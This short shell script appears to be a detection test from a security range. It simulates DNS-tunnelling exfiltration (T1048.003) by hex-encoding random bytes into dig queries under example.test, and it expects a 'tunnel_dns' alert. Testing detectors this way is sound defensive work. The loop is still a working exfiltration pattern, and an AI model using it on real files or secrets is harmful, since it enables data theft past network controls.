# SPDX-License-Identifier: Apache-2.0
# what: a file sent out in the names of dig
# technique: T1048.003
# from: ws1
# to: dc1
# account: -
# outcome: success
# must: alert tunnel_dns
. "$RANGE_HERE/item.sh"
head -c 7200 /dev/urandom | od -An -v -tx1 | tr -d ' \n' | fold -w 60 >"$HOME/hex"
n=0
while read -r l; do
	n=$((n + 1))
	dig +short +tries=1 +time=1 @$dc1 "$n.$l.example.test" A >/dev/null
done <"$HOME/hex"
[ $n -ge 239 ]
